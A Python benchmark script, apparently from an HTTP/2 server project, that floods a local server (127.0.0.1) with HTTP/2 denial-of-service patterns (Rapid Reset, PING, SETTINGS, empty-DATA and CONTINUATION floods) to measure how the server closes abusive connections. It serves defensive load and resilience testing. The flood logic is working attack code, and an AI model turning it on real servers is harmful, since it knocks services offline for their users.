#!/usr/bin/env python3
"""An HTTP/2 attacker for bench/h2.py --flood: for SECONDS, connections to 127.0.0.1:PORT
(h2c, prior knowledge) that send KIND as fast as the server takes it, reconnecting whenever
the server closes one; prints how many connections it opened and how many the server ended.

KIND: reset (Rapid Reset: HEADERS then RST_STREAM, new stream ids), ping, settings,
empty-data, continuation; with "+leave" (ping+leave) the attacker does not wait for the
server to close: it reconnects as soon as it reads a GOAWAY.

    python3 bench/h2_flood.py 18553 7 reset [connections]
"""
import socket
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return bytes([n >> 16 & 255, n >> 8 & 255, n & 255, kind, flags]) + stream.to_bytes(4, "big") + payload


def get(path=b"/6b.txt"):
    return bytes([0x82, 0x86, 0x04, len(path)]) + path + bytes([0x01, 9]) + b"localhost"


def batch(kind, first_id):
    out = []
    if kind == "reset":
        for i in range(500):
            sid = first_id + 2 * i
            out.append(frame(1, 0x5, sid, get()) + frame(3, 0, sid, (8).to_bytes(4, "big")))
        return b"".join(out), first_id + 1000
    if kind == "ping":
        return frame(6, 0, 0, b"\0" * 8) * 500, first_id
    if kind == "settings":
        return frame(4, 0, 0) * 500, first_id
    if kind == "empty-data":
        return frame(1, 0x4, first_id, get()) + frame(0, 0, first_id) * 500, first_id + 2
    if kind == "continuation":
        return frame(1, 0, first_id, get()) + frame(9, 0, first_id) * 500, first_id + 2
    raise SystemExit(kind)


def frames_seen(buf):
    """Walk the frames at the front of `buf` (read from the connection's start): whether
    one is a GOAWAY, and the bytes from the first frame not yet whole."""
    at = 0
    while at + 9 <= len(buf):
        if buf[at + 3] == 7:
            return True, b""
        end = at + 9 + (buf[at] << 16 | buf[at + 1] << 8 | buf[at + 2])
        if end > len(buf):
            break
        at = end
    return False, buf[at:]


def attacker(port, until, kind, stats):
    kind, _, leave = kind.partition("+")
    while time.time() < until:
        try:
            s = socket.create_connection(("127.0.0.1", port))
        except OSError:
            time.sleep(0.01)
            continue
        stats["opened"] += 1
        s.settimeout(0.5)
        sid = 1
        seen = b""
        try:
            s.sendall(PREFACE + frame(4, 0, 0))
            while time.time() < until:
                data, sid = batch(kind, sid)
                if sid > (1 << 30):
                    break
                s.sendall(data)
                try:
                    while True:
                        got = s.recv(65536)
                        if not got:
                            raise ConnectionError
                        if leave:
                            goaway, seen = frames_seen(seen + got)
                            if goaway:
                                raise ConnectionError
                        if len(got) < 65536:
                            break
                except socket.timeout:
                    pass
        except (ConnectionError, OSError):
            stats["closed"] += 1
        finally:
            s.close()


def main():
    port, seconds, kind = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
    n = int(sys.argv[4]) if len(sys.argv) > 4 else 2
    until = time.time() + seconds
    stats = {"opened": 0, "closed": 0}
    threads = [threading.Thread(target=attacker, args=(port, until, kind, stats)) for _ in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"{stats['opened']} {stats['closed']}")


if __name__ == "__main__":
    main()
